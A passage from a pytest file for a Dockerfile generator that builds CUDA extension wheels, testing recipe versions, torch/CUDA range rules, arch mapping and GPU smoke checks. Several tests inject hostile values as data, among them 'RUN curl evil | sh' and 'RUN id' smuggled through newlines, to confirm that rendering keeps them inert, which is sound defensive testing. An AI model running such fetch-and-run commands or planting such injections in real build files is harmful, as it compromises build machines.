"""Tests for imagegen.model.recipes: Recipe and its versions (rules, version lookup), Rule ranges, the arch
knob (runs_on, fixed tables), fetched_from and with_env; with the built-in catalogue's recipe facts and
how recipe values reach a rendered Dockerfile (only as JSON, free text only in comments)."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import dockerfile
import pytest
from packaging.specifiers import SpecifierSet
from packaging.version import Version

from imagegen.errors import RecipeError, UnsafeValueError
from imagegen.model import recipes
from imagegen.model.arch_parse import parse_arch_list
from imagegen.model.catalogue import load_catalogue
from imagegen.model.recipe_file import load_recipe_file
from imagegen.model.recipes import ArchKnob, Recipe, Rule, Sdist, fetched_from, with_env
from imagegen.model.source_tree import recipe_from_source_tree
from imagegen.plan.matrix import make_cell
from imagegen.render.dockerfile import render_dockerfile
from tests.unit.recipe_texts import GOOD, write

BUILTINS = {"sageattention", "flash-attn", "flash-attn-3", "block-sparse-attn", "causal-conv1d", "mamba-ssm",
            "xformers", "natten"}


def test_builtin_catalogue_has_every_recipe_the_issue_names():
    cat = load_catalogue()
    assert BUILTINS <= set(cat.recipes)
    assert cat.get("sage").name == "sageattention"
    for r in cat.recipes.values():
        assert r.smoke.imports and r.versions
        for v in r.versions.values():
            # by full commit, or (a release newer than the git mirror) by its PyPI sdist alone
            assert (v.commit and len(v.commit) == 40) or (v.sdist and not v.ref and not v.commit), \
                f"{r.name} {v.version} must be pinned by full commit or by its sdist"


def test_sage_recipe_facts():
    sage = load_catalogue().get("sage")
    v = sage.version(None)
    assert v.ref == "v2.2.0" and v.arch.env == "TORCH_CUDA_ARCH_LIST" and v.arch.parser == "package"
    main = sage.version("main")
    assert "12.1" in [a.cc for a in main.archs] and "10.0" in [a.cc for a in main.archs]
    # The seed's sm_120 patch is obsolete for >= v2.2.0 and the recipe says so.
    assert any("obsolete for >= v2.2.0" in o["reason"] for o in sage.obsolete_patches)
    # EXT_PARALLEL is sized from the job budget (not pinned), and v2.2.0 carries upstream's sm90 fix.
    assert (sage.ext_parallel_env, sage.ext_parallel_max) == ("EXT_PARALLEL", 4) and "EXT_PARALLEL" not in sage.env
    assert sage.ext_parallel_for(sage.version("2.2.0")) == ("EXT_PARALLEL", 4)
    # 2.1.1 predates EXT_PARALLEL: its extensions build one after another, MAX_JOBS is not split for it.
    assert sage.ext_parallel_for(sage.version("2.1.1")) == (None, 1)
    assert load_catalogue().get("flash-attn").ext_parallel_for(load_catalogue().get("flash-attn").version(None)) == (None, 1)
    assert "sageattention-2.2.0-sm90-fake-name.patch" in [p.name for p in sage.version("2.2.0").patches]
    assert "sageattention-2.2.0-sm90-fake-name.patch" not in [p.name for p in sage.version("main").patches]  # main has d970424


def test_user_recipe_dir_adds_and_overrides(tmp_path):
    write(tmp_path, GOOD)
    cat = load_catalogue((tmp_path,))
    assert cat.get("dm").name == "demo" and "sageattention" in cat.recipes


def test_unknown_recipe_is_one_line_with_the_known_names():
    with pytest.raises(RecipeError) as err:
        load_catalogue().get("sagee")
    assert "unknown recipe 'sagee'" in str(err.value) and "sageattention" in str(err.value)


def _rendered(recipe):
    cell = make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda")
    assert cell.buildable, cell.problems
    return render_dockerfile(cell)


def _render(recipe) -> str:
    return _rendered(recipe).dockerfile


def _heredoc_json(cmds, dest: str) -> dict:
    """The JSON document the Dockerfile's COPY heredoc writes to ``dest``."""
    (doc,) = [h.content for c in cmds for h in c.heredocs if c.cmd.upper() == "COPY" and c.value[-1] == dest]
    return json.loads(doc)


def cell_file(files: dict[str, str]) -> dict:
    """The cell document a rendered Dockerfile copies from its build context (<cell>/cell.json, one of
    Rendered.files), as the build script reads it."""
    (name,) = [k for k in files if k.endswith("/cell.json")]
    return json.loads(files[name])


def _up_to_toolchain(text: str) -> str:
    """The Dockerfile up to and including the RUN that installs the toolchain (torch, CUDA)."""
    run = "/imagegen/imagegen_toolchain.py --cell /imagegen/toolchain.json\n"
    start = text.index("FROM ${BASE_IMAGE} AS os")
    os_stage = text[start:text.index("\n\n", start)]  # up to the fetch stage's comment
    return os_stage + text[text.index("FROM os AS toolchain"):text.index(run) + len(run)]


def test_every_recipe_shares_the_toolchain_layer_of_its_torch_cuda_and_python():
    """The heavy layer (torch and CUDA, several GB) is built from instructions with no recipe in
    them, so BuildKit builds it once for every recipe's builder of one torch x CUDA x Python x base
    (it was once after the cell document: one copy per recipe, and CI ran out of disk)."""
    catalogue = load_catalogue()
    prefixes = {}
    for name in ("sage", "fa2", "natten", "causal-conv1d"):
        recipe = catalogue.get(name)
        cell = make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda")
        assert cell.buildable, cell.problems
        text = render_dockerfile(cell).dockerfile
        prefix = _up_to_toolchain(text)
        # Labels are image metadata: BuildKit leaves them out of a RUN's cache key.
        prefixes[name] = "\n".join(ln for ln in prefix.splitlines() if not ln.lstrip().startswith(("LABEL", "org.", "io.")))
        toolchain = _heredoc_json(dockerfile.parse_string(text), "/imagegen/toolchain.json")
        assert toolchain["torch"]["version"].startswith("2.8") and toolchain["torch"]["cuda"] == "cu128"
        assert not {"recipe", "build_requires", "source", "patches", "env"} & set(toolchain)
        assert recipe.distribution not in prefix.split("LABEL")[0] + prefix.split("io.imagegen.flavor")[-1]
    assert len(set(prefixes.values())) == 1, prefixes.keys()
    other = catalogue.get("sage")
    cell = make_cell(other, other.version(None), "2.9", "12.8", "3.12", parse_arch_list("9.0"), "cuda")
    assert _up_to_toolchain(render_dockerfile(cell).dockerfile) != _up_to_toolchain(_render(other))


def test_hostile_free_text_stays_inside_comments(tmp_path):
    evil = GOOD.replace('reason: "fixed upstream"', 'reason: "fine\\nRUN curl evil | sh\\r\\nUSER root\\u2028ENV X=1"')
    evil = evil.replace('description: "a demo"', 'description: "x\\nRUN id"')
    text = _render(load_recipe_file(write(tmp_path, evil)))
    cmds = dockerfile.parse_string(text)
    assert all(c.cmd.upper() != "USER" for c in cmds)
    assert not any(c.cmd.upper() == "RUN" and "evil" in " ".join(c.value) for c in cmds)
    clean = dockerfile.parse_string(_render(load_recipe_file(write(tmp_path, GOOD))))
    count_env = lambda cs: sum(1 for c in cs if c.cmd.upper() == "ENV")  # noqa: E731
    assert count_env(cmds) == count_env(clean)  # the template's own ENV instructions only


def test_values_reach_the_build_only_as_json(tmp_path):
    rendered = _rendered(load_recipe_file(write(tmp_path, GOOD)))
    cmds = dockerfile.parse_string(rendered.dockerfile)
    doc = cell_file(rendered.files)
    assert doc["env"] == {"DEMO_FLAG": "1"} and doc["force_env"] == {"DEMO_FORCE_BUILD": "TRUE"}
    # No recipe value appears in a RUN instruction.
    for c in cmds:
        if c.cmd.upper() == "RUN":
            assert "DEMO" not in " ".join(c.value)


def test_patch_text_with_a_delimiter_line_stays_a_file_of_its_own(tmp_path):
    (tmp_path / "patches").mkdir()
    (tmp_path / "patches" / "x.patch").write_text("IMAGEGEN_CELL_JSON\nRUN id\nIMAGEGEN_BUILD_PY\n")
    text = GOOD.replace('    archs: ["8.0", "9.0"]', '    archs: ["8.0", "9.0"]\n    patches: [{file: x.patch, reason: test}]')
    assert text != GOOD
    rendered = _rendered(load_recipe_file(write(tmp_path, text)))
    cmds = dockerfile.parse_string(rendered.dockerfile)
    assert not any(c.cmd.upper() == "RUN" and c.value == ("id",) for c in cmds)
    # The patch is a file of the build context, byte for byte; the Dockerfile names it only by its file name.
    doc = cell_file(rendered.files)
    assert doc["patches"][0]["file"] == "patches/x.patch" and "text" not in doc["patches"][0]
    (patch,) = [v for k, v in rendered.files.items() if k.endswith("/patches/x.patch")]
    assert patch == "IMAGEGEN_CELL_JSON\nRUN id\nIMAGEGEN_BUILD_PY\n" and "RUN id" not in rendered.dockerfile


def test_hostile_base_image_is_refused():
    recipe = load_catalogue().get("sage")
    with pytest.raises(UnsafeValueError) as err:
        make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda",
                  base_image="ubuntu:22.04\nRUN id")
    assert "\n" not in str(err.value) and "--base-image" in str(err.value)


def test_unsafe_value_error_is_typed():
    from imagegen import safety
    with pytest.raises(UnsafeValueError):
        safety.validate("a\nb", safety.IMAGE_REF, "image")


# --------------------------------------------------------------------------------------------
# Per-version torch / CUDA / Python ranges (`requires`) and arch mapping (`arch.runs_on`)


def test_xformers_versions_carry_their_torch_floor_as_rules():
    xf = load_catalogue().get("xformers")
    floors = {v: [r.text for r in xf.version(v).requires if r.subject == "torch"] for v in xf.versions}
    assert floors == {"0.0.35": [">= 2.10"], "0.0.33.post2": [">= 2.9"], "0.0.32": [">= 2.8"]}
    assert [r.text for r in xf.version("0.0.35").requires if r.subject == "cuda"] == [">= 12.5"]


def test_rule_compares_two_part_clauses_by_series_and_longer_ones_by_release():
    v = load_recipe_file(Path("x.yaml"), text=GOOD.replace(
        "    archs: [\"8.0\", \"9.0\"]\n",
        "    archs: [\"8.0\", \"9.0\"]\n    requires: {torch: \">2.9\", python: \">=3.9.1\"}\n"))
    torch_rule, py_rule = v.version(None).requires
    assert torch_rule.allows(Version("2.10"), Version("2.10.0"))
    assert not torch_rule.allows(Version("2.9"), Version("2.9.1"))  # the 2.9 series is not "> 2.9"
    assert not py_rule.allows(Version("3.9"), Version("3.9"))


def test_flash_attn_and_bsa_map_8x_to_the_sm80_cubin_in_every_numeric_version():
    cat = load_catalogue()
    for name in ("flash-attn", "block-sparse-attn"):
        for v in cat.get(name).versions.values():
            if v.arch.style == "fixed":
                continue  # BSA 0.0.1: its fixed sm_80 covers 8.6/8.9 by itself
            assert {cc: v.arch.compiles_for(cc) for cc in ("8.6", "8.7", "8.9", "9.0")} == \
                {"8.6": "8.0", "8.7": "8.0", "8.9": "8.0", "9.0": "9.0"}, (name, v.version)


# A statement about a torch / CUDA / Python range in a version's notes. Each must be backed by a rule
# (`requires` or the recipe-wide build floors) that the plan enforces: notes are for people, rules for
# the plan, and a "needs torch >= 2.10" that lives only in prose gets planned as buildable anyway.
_STATEMENTS = [
    (re.compile(r"\b(torch|cuda|python)\s*(>=|≥|<=|≤|>|<)\s*v?(\d+(?:\.\d+)+)", re.I), None),
    (re.compile(r"\b(?:requires|needs|only with)\s+(torch|cuda|python)\s+v?(\d+(?:\.\d+)+)", re.I), ">="),
]


def _excluded_by(op: str, bound: Version) -> Version:
    """A value the statement ``<subject> <op> <bound>`` rules out, next to the bound."""
    rel = list(bound.release)
    if op in (">", "<"):
        return bound
    if op in ("<=", "≤"):
        rel[-1] += 1
    elif rel[-1] > 0:
        rel[-1] -= 1
    else:  # ">= 13.0": 12.9
        rel[-2:] = [rel[-2] - 1, 9]
    return Version(".".join(map(str, rel)))


def unbacked_statements(recipe: Recipe) -> list[str]:
    out = []
    for v in recipe.versions.values():
        rules = recipe.rules(v)
        for pattern, fixed_op in _STATEMENTS:
            for m in pattern.finditer(" ".join(v.notes.split())):
                subject = m.group(1).lower()
                op, bound = (fixed_op, m.group(2)) if fixed_op else (m.group(2), m.group(3))
                probe = _excluded_by(op, Version(bound))
                if all(r.allows(probe, probe) for r in rules if r.subject == subject):
                    out.append(f"{recipe.name} {v.version}: notes say {m.group(0)!r}, but no rule rejects {subject} {probe}")
    return out


def test_every_range_stated_in_notes_is_an_enforced_rule():
    cat = load_catalogue()
    found = [s for r in cat.recipes.values() for s in unbacked_statements(r)]
    assert found == []
    # The scan sees the catalogue's statements at all (else it would pass vacuously).
    assert any(_STATEMENTS[0][0].search(v.notes) for r in cat.recipes.values() for v in r.versions.values())


def test_a_note_stating_a_range_without_a_rule_is_caught(tmp_path):
    note = '    notes: "requires torch >= 2.10 (requirements.txt); needs CUDA >= 12.5; Python >= 3.10 only"\n'
    base = GOOD.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n' + note)
    bare = load_recipe_file(write(tmp_path, base))
    assert len(unbacked_statements(bare)) == 3
    # A rule weaker than the note does not back it: torch >= 2.8 still lets torch 2.9 through.
    weak = load_recipe_file(write(tmp_path, base.replace(note, note + '    requires: {torch: ">=2.8"}\n')))
    assert [s.rsplit("no rule rejects ", 1)[1] for s in unbacked_statements(weak)] == ["torch 2.9", "cuda 12.4", "python 3.9"]
    backed = load_recipe_file(write(tmp_path, base.replace(note, note + (
        '    requires: {torch: {spec: ">=2.10", why: requirements.txt}, cuda: ">=12.5", python: ">=3.10"}\n'))))
    assert unbacked_statements(backed) == []




# --------------------------------------------------------------------------------------------
# imagegen.model.recipes itself: Recipe, RecipeVersion, Rule, ArchKnob, Sdist, fetched_from, with_env

SHA = "ab" * 32
SDIST = "https://files.pythonhosted.org/packages/source/d/demo/demo-1.0.tar.gz"


def _demo(text: str = GOOD) -> Recipe:
    return load_recipe_file(Path("demo.yaml"), text=text)


def _with_sdist(text: str = GOOD) -> str:
    return text.replace('    archs: ["8.0", "9.0"]\n',
                        f'    archs: ["8.0", "9.0"]\n    sdist: {{url: "{SDIST}", sha256: "{SHA}"}}\n')


def test_rule_text_orders_floors_then_pins_then_exclusions_then_ceilings():
    rule = Rule("torch", SpecifierSet("<2.10,!=2.9.0,>=2.8"))
    assert rule.text == ">= 2.8, != 2.9.0, < 2.10"
    assert Rule("cuda", SpecifierSet(">=12.5")).text == ">= 12.5"


def test_rule_with_a_wildcard_compares_the_exact_release():
    rule = Rule("torch", SpecifierSet("==2.8.*"))
    assert rule.allows(Version("2.8"), Version("2.8.1"))
    assert not rule.allows(Version("2.9"), Version("2.9.0"))
    # Without an exact release the series itself is compared.
    assert Rule("cuda", SpecifierSet("<12.5")).allows(Version("12.4"))
    assert not Rule("cuda", SpecifierSet("<12.5")).allows(Version("12.5"))


def test_arch_knob_compiles_for_maps_only_what_runs_on_names():
    knob = ArchKnob(env="X_ARCHS", style="numeric", runs_on=(("8.6", "8.0"), ("8.9", "8.0")))
    assert [knob.compiles_for(cc) for cc in ("8.0", "8.6", "8.9", "9.0")] == ["8.0", "8.0", "8.0", "9.0"]


def test_arch_knob_fixed_for_adds_archs_by_nvcc_and_drops_them_later():
    knob = ArchKnob(env=None, style="fixed",
                    fixed=((Version("11.8"), parse_arch_list("7.0;8.0")), (Version("12.8"), parse_arch_list("12.0"))),
                    fixed_dropped=((Version("13.0"), parse_arch_list("7.0")),))
    assert [a.cc for a in knob.fixed_for(Version("11.7"))] == []
    assert [a.cc for a in knob.fixed_for(Version("12.4"))] == ["7.0", "8.0"]
    assert [a.cc for a in knob.fixed_for(Version("12.8"))] == ["7.0", "8.0", "12.0"]
    assert [a.cc for a in knob.fixed_for(Version("13.0"))] == ["8.0", "12.0"]


def test_sdist_filename_and_pinned_ref():
    assert Sdist(url=SDIST, sha256=SHA).filename == "demo-1.0.tar.gz"
    v = _demo().version("1.0")
    assert v.pinned_ref == "0123456789abcdef0123456789abcdef01234567"
    unpinned = _demo(GOOD.replace("    commit: 0123456789abcdef0123456789abcdef01234567\n", "")).version("1.0")
    assert unpinned.commit is None and unpinned.pinned_ref == "v1.0"


def test_heaviest_gb_per_thread_is_the_recipe_figure_without_per_source_ones():
    recipe = _demo(GOOD.replace("build:\n", "build:\n  memory_per_thread_gb: 3.5\n"))
    assert recipe.source_memory_gb == {} and recipe.heaviest_gb_per_thread == 3.5


def test_rules_are_the_recipe_floors_then_the_versions_own():
    text = GOOD.replace("build:\n", 'build:\n  min_torch: "2.6"\n  max_torch: "2.9"\n  min_cuda: "12.4"\n'
                        '  python: ">=3.10"\n').replace(
        '    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    requires: {torch: ">=2.8"}\n')
    recipe = _demo(text)
    got = [(r.subject, r.text, r.why) for r in recipe.rules(recipe.version(None))]
    assert got == [("torch", ">= 2.6", "build.min_torch"), ("torch", "<= 2.9", "build.max_torch"),
                   ("cuda", ">= 12.4", "build.min_cuda"), ("python", ">= 3.10", "build.python"),
                   ("torch", ">= 2.8", "")]


def test_rules_leave_out_an_empty_python_range():
    recipe = _demo(GOOD.replace("build:\n", 'build:\n  python: ""\n'))
    assert [r.subject for r in recipe.rules(recipe.version(None))] == ["cuda"]


def test_version_lookup_default_and_unknown():
    recipe = _demo(GOOD.replace("    archs: [\"8.0\", \"9.0\"]\n",
                                "    archs: [\"8.0\", \"9.0\"]\n  \"2.0\": {ref: v2.0, archs: [\"9.0\"]}\n"))
    assert recipe.default_version == "1.0" and recipe.version(None).version == "1.0"
    assert recipe.version("2.0").ref == "v2.0"
    with pytest.raises(RecipeError) as err:
        recipe.version("3.0\n\x1b[31m" + "x" * 500)
    msg = str(err.value)
    assert msg.startswith("demo has no version '3.0\\n\\x1b[31m") and msg.endswith("; known: 1.0, 2.0")
    assert "\n" not in msg and "\x1b" not in msg and len(msg) < 150 and err.value.exit_code == 2


def test_fetched_from_git_is_the_recipe_itself():
    recipe = _demo(_with_sdist())
    version = recipe.version(None)
    for fetch in (None, "git"):
        r, v = fetched_from(recipe, version, fetch)
        assert r is recipe and v is version


def test_fetched_from_sdist_points_the_build_at_the_pinned_archive():
    recipe = _demo(_with_sdist(GOOD.replace("  git: https://github.com/example/demo.git\n",
                                            "  git: https://github.com/example/demo.git\n  submodules: true\n")))
    version = recipe.version(None)
    r, v = fetched_from(recipe, version, "sdist")
    assert (r.source_kind, r.source_url, r.submodules) == ("sdist", SDIST, False)
    assert (v.ref, v.commit, v.pinned_ref) == ("demo-1.0.tar.gz", None, "demo-1.0.tar.gz")
    assert v.archs == version.archs
    assert r.name == recipe.name and r.smoke == recipe.smoke and v.arch == version.arch
    assert (recipe.source_kind, version.commit) == ("git", "0123456789abcdef0123456789abcdef01234567")  # untouched


def test_fetched_from_refuses_an_unknown_kind_a_local_tree_and_a_version_without_sdist(tmp_path):
    recipe = _demo(_with_sdist().replace("arch:\n", "  \"0.9\": {ref: v0.9, archs: [\"9.0\"]}\narch:\n", 1))
    with pytest.raises(RecipeError, match=r"^--fetch 'zip\\n': use one of git, sdist$"):
        fetched_from(recipe, recipe.version(None), "zip\n")
    with pytest.raises(RecipeError, match=r"^demo 0\.9 names no sdist in its recipe \(demo\.yaml\): versions with one"):
        fetched_from(recipe, recipe.version("0.9"), "sdist")
    plain = _demo()
    with pytest.raises(RecipeError, match=r"names no sdist .* fetch it from git \(--fetch git\)$"):
        fetched_from(plain, plain.version(None), "sdist")
    (tmp_path / "setup.py").write_text("from setuptools import setup\nsetup(name='tree', version='1.0')\n")
    local = recipe_from_source_tree(tmp_path)
    with pytest.raises(RecipeError, match="tree is a local source tree: --fetch sdist applies to recipes with a git"):
        fetched_from(local, local.version(None), "sdist")


def test_with_env_adds_the_users_variables_on_top_of_the_versions():
    recipe = _demo(GOOD.replace('    archs: ["8.0", "9.0"]\n',
                                '    archs: ["8.0", "9.0"]\n    env: {V_FLAG: "1", V_KEEP: "k"}\n'))
    version = recipe.version(None)
    assert with_env(recipe, version, {}) is version
    out = with_env(recipe, version, {"V_FLAG": "0", "FLASH_ATTENTION_DISABLE_BACKWARD": "TRUE"})
    assert dict(out.env) == {"V_FLAG": "0", "V_KEEP": "k", "FLASH_ATTENTION_DISABLE_BACKWARD": "TRUE"}
    assert dict(version.env) == {"V_FLAG": "1", "V_KEEP": "k"} and out.archs == version.archs
    assert dict(recipe.env) == {"DEMO_FLAG": "1"}  # the recipe-wide build.env is not where --env goes


@pytest.mark.parametrize("name, says", [
    ("TORCH_CUDA_ARCH_LIST", "use --arch"),
    ("DEMO_ARCHS", "use --arch"),  # the recipe's own arch knob
    ("MAX_JOBS", "use --max-jobs"),
    ("NVCC_THREADS", "use --nvcc-threads"),
    ("DEMO_THREADS", "use --nvcc-threads"),
    ("DEMO_PARALLEL", "use --max-jobs"),
    ("DEMO_FORCE_BUILD", "it forces a compile from source"),
    ("DEMO_LOCAL_VERSION", "it is the wheel's local version"),
])
def test_with_env_refuses_what_imagegen_sets_for_the_recipe_naming_the_flag(name, says):
    recipe = _demo(GOOD.replace("build:\n", "build:\n  threads_env: DEMO_THREADS\n"
                                "  local_version_env: DEMO_LOCAL_VERSION\n"
                                "  ext_parallel: {env: DEMO_PARALLEL, max: 4}\n"))
    with pytest.raises(RecipeError) as err:
        with_env(recipe, recipe.version(None), {"OK_VAR": "1", name: "x"})
    assert str(err.value) == f"--env {name}: imagegen sets {name} for demo: {says}" + (
        ", which imagegen always does" if "forces" in says else ", which imagegen sets" if "local" in says else "")


@pytest.mark.parametrize("name", ["IMAGEGEN_CELL", "PIP_INDEX_URL", "CUDA_HOME", "PATH", "PYTHONPATH",
                                  "LD_LIBRARY_PATH"])
def test_with_env_refuses_the_toolchains_own_variables(name):
    recipe = _demo()
    with pytest.raises(RecipeError, match=rf"^--env {name}: imagegen sets {name} itself for the build") as err:
        with_env(recipe, recipe.version(None), {name: "x"})
    assert err.value.exit_code == 2


def test_recipe_constants_name_every_style_policy_and_subject_the_loader_takes():
    assert recipes.RECIPE_SCHEMA == 1 and recipes.FETCH_KINDS == ("git", "sdist")
    for style in recipes.ARCH_STYLES:
        env = "" if style == "fixed" else "  env: DEMO_ARCHS\n"
        table = '  fixed: {"12.8": ["9.0"]}\n' if style == "fixed" else ""
        text = GOOD.replace("  env: DEMO_ARCHS\n  style: numeric\n", f"{env}  style: {style}\n{table}")
        assert _demo(text).version(None).arch.style == style
    for ptx in recipes.PTX_POLICIES:
        assert _demo(GOOD.replace("ptx: none", f"ptx: {ptx}")).version(None).arch.ptx == ptx


# --------------------------------------------------------------------------------------------
# by_torch: a version's facts for some torch releases only (issue 37: C++20 from torch 2.12 on)


def _torch_conditional_version():
    base = recipes.Patch("base.patch", "x", "routing")
    std = recipes.Patch("std.patch", "y", "C++20")
    version = load_catalogue().get("sage").version(None)
    facts = recipes.TorchFacts(match=Rule("torch", SpecifierSet(">=2.12")), patches=(std,), env={"EXTRA": "1"}, cxx_std=20)
    return replace(version, patches=(base,), env={"A": "1"}, cxx_std=17, by_torch=(facts,))


@pytest.mark.parametrize("series, exact", [("2.11", "2.11.0"), ("2.8", "2.8.0"), ("2.4", "2.4.1")])
def test_for_torch_leaves_older_torch_exactly_as_it_was(series, exact):
    v = _torch_conditional_version()
    assert v.for_torch(Version(series), Version(exact)) is v


@pytest.mark.parametrize("series, exact", [("2.12", "2.12.1"), ("2.14", "2.14.1"), ("3.0", "3.0.0")])
def test_for_torch_adds_the_patches_variables_and_standard_of_the_entry_that_holds_it(series, exact):
    v = _torch_conditional_version().for_torch(Version(series), Version(exact))
    assert [p.name for p in v.patches] == ["base.patch", "std.patch"]  # after the version's own
    assert v.env == {"A": "1", "EXTRA": "1"} and v.cxx_std == 20
    assert v.by_torch == () and v.torch_rules == "by_torch[0] (torch >= 2.12)"
    assert v.for_torch(Version(series), Version(exact)) is v  # applied once


def test_the_catalogue_fixes_every_version_that_hard_codes_a_standard_or_says_it_has_none():
    cat = load_catalogue()
    # The one version without a fix: flash-attn-3 3.0.0b1 builds only with CUDA 12.8, which no torch >=
    # 2.12 is built for, so it requires torch < 2.12 and says why (test_plan).
    unfixable = {("flash-attn-3", "3.0.0b1")}
    # Versions whose CUDA build passes no -std at all (torch's own standard applies, C++20 from 2.12):
    # causal-conv1d's -std=c++17 is in its HIP branch only (v1.6.1, main, the 1.7.0 sdist; the gencode
    # audit of the frontier build for torch 2.15 saw -std=c++20 with no patch).
    torchs_own = {"causal-conv1d"}
    for name in cat.names():
        recipe = cat.get(name)
        for label, version in recipe.versions.items():
            if name in torchs_own:
                assert version.cxx_std is None and not version.by_torch, (name, label)
                continue
            if (name, label) in unfixable:
                assert version.cxx_std == 17 and not version.by_torch, (name, label)
                torch_rule = next(r for r in version.requires if r.subject == "torch")
                assert not torch_rule.spec.contains("2.12.0") and "no CUDA 12.8 build" in torch_rule.why, (name, label)
                continue
            assert version.cxx_std == 17 and version.by_torch, (name, label)
            newest = version.for_torch(Version("2.14"), Version("2.14.1"))
            assert newest.cxx_std == 20 and any("cxx-std" in p.name for p in newest.patches), (name, label)
            assert version.for_torch(Version("2.11"), Version("2.11.0")).patches == version.patches
        for spec, facts in recipe.by_version:  # the ranges for sources the catalogue does not pin, too
            assert facts.cxx_std is None or facts.by_torch, (name, str(spec))


def test_mamba_ssm_gpu_check_runs_forward_and_backward_in_every_input_dtype():
    # The H100 run of 2026-11-27 (docs/records/verification.md): the check that ran there compares the compiled
    # forward and backward kernels with the package's reference for fp32, fp16 and bf16 inputs, each
    # tensor by relative error, NaN failing; the former check ran the fp32 forward kernel only.
    check = load_catalogue().get("mamba-ssm").smoke.gpu_check
    compile(check, "gpu_check", "exec")
    for needed in ("import selective_scan_cuda", "selective_scan_ref(", ".backward(g)", "torch.float32",
                   "torch.float16", "torch.bfloat16", "return_last_state=True", "if not err < tol[itype]"):
        assert needed in check, needed
    assert "assert not failed" in check


def test_flash_attn_3_gpu_check_runs_what_the_wheel_was_built_with_against_fp32_attention():
    # The H100 runs of 2026-11-27 (docs/records/gpu-results/2026-11-27-fa3): the former check ran one forward
    # kernel (bf16, hdim 128, causal) against sdpa with a cosine. This one compares the output and the
    # gradients of q, k and v with attention computed in fp32 for fp16 and bf16, head dims 64/128/256,
    # causal and not, within 2x of PyTorch's own error in the same dtype plus the dtype's rounding floor
    # (hopper/test_flash_attn.py's criterion), NaN failing. It ran on two reduced builds there: fwd only
    # (bf16, hdim 128) and fwd+bwd (fp16 and bf16, hdim 128). A build made with FLASH_ATTENTION_DISABLE_*
    # knobs is checked where it was built: the wheel's flash_attn_config module (hopper/setup.py writes
    # its build_flags) says which dtypes, head dims and whether backward exist, and the line says so.
    check = load_catalogue().get("flash-attn-3").smoke.gpu_check
    compile(check, "gpu_check", "exec")
    for needed in ("import flash_attn_interface", "from flash_attn_config import CONFIG", 'CONFIG["build_flags"]',
                   '"FLASHATTENTION_DISABLE_" + what', '((torch.float16, "FP16"), (torch.bfloat16, ""))',
                   "(64, 128, 256)", 'not off(f"HDIM{d}")', 'backward = not off("BACKWARD")', "out.backward(dout)",
                   "(False, True)", "err == err and err <= 2 * pt_err + floor", "[t.float() for t in qkv]",
                   "max(1e-3, 2 * (rd + 0.3 - 0.3 - rd).abs().max().item())", "reduced build, not built:"):
        assert needed in check, needed
    # bf16 is never switched off (setup.py builds it always); a wheel without the module is a full build
    assert "except ImportError:\n    flags = {}" in check


def _calls_of(tree, name):
    import ast
    return [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
            and n.func.attr == name]


def test_xformers_gpu_check_runs_the_wheels_own_kernels_against_pytorch():
    # The H100 runs of 2026-11-27 (docs/records/gpu-results/2026-11-27-xformers): the former check ran only
    # memory_efficient_attention, which in 0.0.35 dispatches to PyTorch's own kernels (aten's
    # _efficient_attention_*, flash), so no kernel the wheel compiled ever ran. This one runs xformers._C's
    # sparse24 ops (what 0.0.34+ compiles): exact where a kernel only selects values (largest_mask_2d on
    # upstream's fixed case, sparsify_both_ways against it, apply/apply_dense_output, sparseNM_dense
    # against a PyTorch ranking), float32 references where it multiplies (the sm8x 2:4 GEMM; the sm90 fp8
    # 2:4 compress+GEMM, whose kernels are real only for 9.0a, so only where the wheel says 9.0a).
    import ast
    check = load_catalogue().get("xformers").smoke.gpu_check
    tree = ast.parse(check)
    for needed in ("xformers._has_cpp_library", "xformers._cpp_lib._built_with_cuda",
                   "xf.sparse24_largest_mask_2d(inp)", "xf.sparse24_sparsify_both_ways(a)",
                   "xf.sparse24_apply_dense_output(a, threads_masks)", "xf.sparse24_apply(a, threads_masks)",
                   "torch.equal(kept, mask)", "torch.equal(dense[kept], a[kept])",
                   "xf.sparseNM_dense(A, N=2, M=M, sort_preproc=pre)", "argsort().argsort()",
                   "ref = (A.float() * a_scale) @ (B.float() * b_scale).t()", "err <= 2 * pt_err + 1e-3",
                   'build_env.get("TORCH_CUDA_ARCH_LIST")', "xops.memory_efficient_attention(q, k, v)"):
        assert needed in check, needed
    guards = [n for n in ast.walk(tree) if isinstance(n, ast.If) and "9.0a" in ast.unparse(n.test)]
    assert len(guards) == 1 and ast.unparse(guards[0].test) == 'cc == (9, 0) and \'9.0a\' in archs'
    for op in ("_sparse24_sm90_cutlass_compress", "_sparse24_fp8_sm90_cutlass_gemm"):  # a plain-9.0 build traps
        assert _calls_of(tree, op) and all(c in _calls_of(guards[0], op) for c in _calls_of(tree, op)), op
    sm8x = [n for n in ast.walk(tree) if isinstance(n, ast.If) and ast.unparse(n.test) == "cc[0] == 8"]
    assert len(sm8x) == 1 and _calls_of(tree, "_sparse24_gemm") == _calls_of(sm8x[0], "_sparse24_gemm")  # sm8x only


def test_natten_gpu_check_runs_the_neighborhood_kernels_not_the_self_attention_shortcut():
    # The H100 run of 2026-11-27 (docs/records/gpu-results/2026-11-27-natten): the former check called na1d with
    # kernel_size equal to the sequence length, which natten answers with natten.attention (FMHA): no FNA
    # kernel ran although it said cutlass-fna. This one calls na1d/na2d/na3d with windows smaller than the
    # input (odd, so NATTEN's window is centred), causal and not, forward and backward, per backend the GPU
    # runs (cutlass-fna everywhere, hopper-fna on 9.0, blackwell-fna on 10.0/10.3) and natten.attention per
    # FMHA backend, against float64 attention masked to the neighbourhood, within NATTEN's own test
    # tolerances or 2x PyTorch's error in the same dtype. It ran there with RANKS = (1,) (a 1-D-only build).
    import ast
    check = load_catalogue().get("natten").smoke.gpu_check
    tree = ast.parse(check)
    ranks = [n for n in tree.body if isinstance(n, ast.Assign) and ast.unparse(n.targets[0]) == "RANKS"]
    assert len(ranks) == 1 and ast.literal_eval(ranks[0].value) == (1, 2, 3)
    cases = []
    for n in ast.walk(tree):
        if isinstance(n, ast.AugAssign) and ast.unparse(n.target) == "cases":
            # tuples and (False,) * 3: eval without builtins, not literal_eval
